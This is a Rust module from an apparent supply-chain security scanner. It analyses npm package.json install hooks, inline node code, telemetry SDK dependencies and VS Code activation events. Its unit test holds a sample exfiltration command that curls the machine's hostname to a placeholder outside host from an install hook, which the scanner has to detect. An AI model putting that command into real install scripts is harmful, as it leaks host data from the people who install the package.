//! `package.json`: lifecycle scripts that run at install time (analysed as shell), the files
//! they run, inline `node -e` code, and dependencies on telemetry SDKs.

use telltale_facts::{FileFacts, InstallScriptFact, SdkImportFact, Span};
use telltale_knowledge::vendors;

/// Scripts npm runs during `npm install` of the package from a registry. The git-only ones
/// (`telltale_facts::GIT_ONLY_HOOKS`, `prepare`) are recorded too, not as install-time code.
pub const INSTALL_HOOKS: &[&str] = &["preinstall", "install", "postinstall"];

/// What a manifest says, as facts plus the inline code its scripts carry.
pub struct Manifest {
    pub facts: FileFacts,
    /// (hook, interpreter, code) for `node -e "…"` and the like.
    pub inline_code: Vec<(String, String, String)>,
}

fn key_span(text: &str, key: &str) -> Span {
    let needle = format!("\"{key}\"");
    match text.find(&needle) {
        Some(i) => Span::new(i as u32, (i + needle.len()) as u32),
        None => Span::new(0, 0),
    }
}

pub fn analyze(path: &str, text: &str) -> Manifest {
    let mut facts = FileFacts {
        file: path.to_string(),
        install_time: true,
        ..Default::default()
    };
    let mut inline_code = Vec::new();
    let json: serde_json::Value = match serde_json::from_str(text) {
        Ok(v) => v,
        Err(e) => {
            facts.diagnostics.push(format!("not valid JSON: {e}"));
            return Manifest { facts, inline_code };
        }
    };
    if let Some(scripts) = json.get("scripts").and_then(|s| s.as_object()) {
        for hook in telltale_facts::GIT_ONLY_HOOKS.iter().chain(INSTALL_HOOKS) {
            let Some(cmd) = scripts.get(*hook).and_then(|c| c.as_str()) else {
                continue;
            };
            let span = key_span(text, hook);
            let sa = telltale_shell::analyze_shell(cmd, span.start);
            let script = InstallScriptFact {
                hook: hook.to_string(),
                command: cmd.to_string(),
                span,
                runs: sa.runs.iter().map(|r| r.path.clone()).collect(),
            };
            let from_registry = script.runs_from_registry();
            facts.install_scripts.push(script);
            if !from_registry {
                continue; // listed, but not install-time code
            }
            facts.sources.extend(sa.sources);
            facts.flows.extend(sa.flows);
            facts.endpoints.extend(sa.endpoints);
            facts.dynamic_code.extend(sa.dynamic_code);
            facts.region_guards.extend(sa.region_guards);
            for code in sa.inline_code {
                inline_code.push((hook.to_string(), code.interpreter, code.code));
            }
        }
    }
    for section in ["dependencies", "optionalDependencies", "peerDependencies"] {
        if let Some(deps) = json.get(section).and_then(|d| d.as_object()) {
            for name in deps.keys() {
                if vendors::telemetry_vendor_for_package(name).is_some() {
                    facts.sdk_imports.push(SdkImportFact {
                        module: name.clone(),
                        span: key_span(text, name),
                    });
                }
            }
        }
    }
    // A VS Code extension: its `main`/`browser` code runs when an activation event fires.
    if json.pointer("/engines/vscode").is_some() {
        let events: Vec<&str> = json
            .get("activationEvents")
            .and_then(|a| a.as_array())
            .map(|a| a.iter().filter_map(|e| e.as_str()).collect())
            .unwrap_or_default();
        let entries: Vec<&str> = ["main", "browser"]
            .iter()
            .filter_map(|k| json.get(*k).and_then(|m| m.as_str()))
            .collect();
        if !entries.is_empty() {
            let always = events
                .iter()
                .any(|e| *e == "*" || *e == "onStartupFinished");
            let when = if always {
                format!(
                    "at every VS Code start ({})",
                    events
                        .iter()
                        .filter(|e| **e == "*" || **e == "onStartupFinished")
                        .copied()
                        .collect::<Vec<_>>()
                        .join(", ")
                )
            } else if events.is_empty() {
                "when a contributed command, view or language is first used".to_string()
            } else {
                format!(
                    "on {}",
                    events
                        .iter()
                        .take(6)
                        .copied()
                        .collect::<Vec<_>>()
                        .join(", ")
                )
            };
            facts.activation.push(format!(
                "VS Code extension: {} runs {when}",
                entries.join(" and ")
            ));
        }
    }
    Manifest { facts, inline_code }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// npm runs `preinstall`, `install` and `postinstall` when installing from a registry:
    /// each is install-time code; `prepare` runs only for git and folder installs, so it is
    /// listed but its data flow is not install-time.
    #[test]
    fn every_registry_hook_is_install_time_code_and_prepare_is_listed_only() {
        let send = "curl -d \\\"$(hostname)\\\" https://c.example.top";
        for hook in INSTALL_HOOKS {
            let text = format!(r#"{{"scripts": {{"{hook}": "{send}"}}}}"#);
            let m = analyze("package/package.json", &text);
            assert_eq!(m.facts.install_scripts.len(), 1, "{hook}");
            assert!(m.facts.install_scripts[0].runs_from_registry(), "{hook}");
            assert_eq!(m.facts.flows.len(), 1, "{hook}: {:#?}", m.facts.flows);
        }
        let text = format!(r#"{{"scripts": {{"prepare": "{send}", "test": "{send}"}}}}"#);
        let m = analyze("package/package.json", &text);
        assert_eq!(m.facts.install_scripts.len(), 1);
        assert!(!m.facts.install_scripts[0].runs_from_registry());
        assert!(m.facts.flows.is_empty(), "{:#?}", m.facts.flows);
    }
}
